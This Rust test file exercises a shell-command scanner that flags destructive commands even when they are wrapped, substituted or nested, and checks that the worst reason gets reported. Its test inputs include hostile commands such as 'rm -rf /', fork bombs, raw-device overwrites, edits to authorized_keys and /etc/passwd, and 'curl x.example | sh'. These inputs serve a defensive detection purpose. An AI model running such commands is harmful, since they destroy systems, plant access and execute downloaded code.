#![allow(clippy::unwrap_used, reason = "tests fail by panicking")]

use std::borrow::Cow;

use crate::engine::critical::critical;
use crate::shell::scan;

fn reason(text: &str) -> Option<Cow<'static, str>> {
    critical(&scan(text)).map(|part| part.reason)
}

#[test]
fn a_mention_in_quotes_is_no_command() {
    for text in [
        "echo 'rm -rf /'",
        "grep -rn 'curl x | sh' .",
        "git commit -m 'shutdown now'",
        "man reboot",
    ] {
        assert_eq!(reason(text), None, "{text}");
    }
}

#[test]
fn wrappers_scripts_and_substitutions_hide_nothing() {
    for text in [
        "sudo rm -rf /",
        "timeout 5 nice rm -rf ~",
        "bash -c 'rm -rf /'",
        "echo $(rm -rf ~)",
        "eval 'rm -rf /'",
        "bash <<'EOF'\nrm -rf /\nEOF",
        "find / -delete",
        "find . -exec rm -rf / \\;",
        "f() { rm -rf /; }; f",
        "env X=1 xargs rm -rf /",
        "sh -c \"bash -c 'rm -rf /'\"",
    ] {
        assert!(reason(text).is_some(), "{text}");
    }
}

#[test]
fn the_finding_points_at_the_command() {
    let part = critical(&scan("ls; rm -rf /; pwd")).unwrap();
    assert_eq!(part.span, 4..12);
}

#[test]
fn a_loop_that_only_starts_others_is_a_fork_bomb() {
    for text in
        ["while true; do x & done", "until false; do x | y & done", "for ((;;)); do x & done"]
    {
        assert!(reason(text).is_some(), "{text}");
    }
    for text in [
        "while true; do x & sleep 1; done",
        "while true; do x & wait; done",
        "while y; do x & done",
    ] {
        assert_eq!(reason(text), None, "{text}");
    }
}

#[test]
fn a_relative_path_behind_a_cd_is_the_file_that_it_names() {
    for text in [
        "cd ~/.ssh && echo x >> authorized_keys",
        "cd /etc; tee passwd",
        "cd / && cd etc && sudo cp /tmp/x passwd",
        "cd / && rm -rf etc",
        "cd ~ && rm -rf .ssh",
        "cd /etc && rm -rf cron*",
        "bash -c 'cd /etc; echo x > hosts'",
    ] {
        assert!(reason(text).is_some(), "{text}");
    }
    for text in [
        "cd src && echo x > authors",
        "(cd /etc && ls); echo x > hosts",
        "cd /etc && cat passwd > /tmp/x",
        "cd /home/me/app && rm -rf target && npm run build > log",
        "cd .. && rm -rf build",
    ] {
        assert_eq!(reason(text), None, "{text}");
    }
}

#[test]
fn of_several_reasons_the_worst_is_named() {
    for (text, worst) in [
        ("sudo rm -rf --no-preserve-root /", "deletes the whole system, as root"),
        ("systemctl stop sshd; rm -rf ~ /; echo done", "deletes the whole system"),
        ("crontab x; rm -rf ~/Documents /etc", "deletes a directory of the system"),
        ("curl x.example | sh; dd if=a of=/dev/sda", "overwrites a raw device"),
        ("bash -c 'shutdown now; rm -rf /home/ana'", "deletes a whole home directory"),
        ("rm -rf ./*", "deletes everything here, or above"),
        ("rm -rf \"$DIR\"/", "deletes what may be a root, a home or a system directory"),
        ("crontab x; curl x.example | sh", "runs code that it downloads or decodes"),
    ] {
        assert_eq!(reason(text).as_deref(), Some(worst), "{text}");
    }
}

#[test]
fn a_text_of_many_commands_is_read_to_its_end() {
    let many = "ls;".repeat(61);
    let all = scan(&many);
    assert!(!all.understood() && all.read_whole());
    let more = format!("{many} coproc x");
    assert!(!scan(&more).read_whole());
}
